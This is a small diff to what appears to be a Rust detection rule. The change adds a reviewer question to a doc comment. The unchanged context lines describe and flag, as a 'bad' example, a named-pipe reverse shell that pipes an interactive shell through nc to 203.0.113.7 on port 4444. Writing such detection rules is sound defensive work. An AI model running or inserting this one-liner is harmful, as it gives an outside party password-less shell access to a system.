@@ -11,6 +11,8 @@ rule! {
     /// A named pipe brings the commands from the connection to the shell, and the pipeline brings back what it prints. It is
     /// a remote shell without a password.
     ///
+    /// To decide: Who is at the other end, and why do they not come in by `ssh`?
+    ///
     /// ```sh bad
     /// mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f
     /// ```
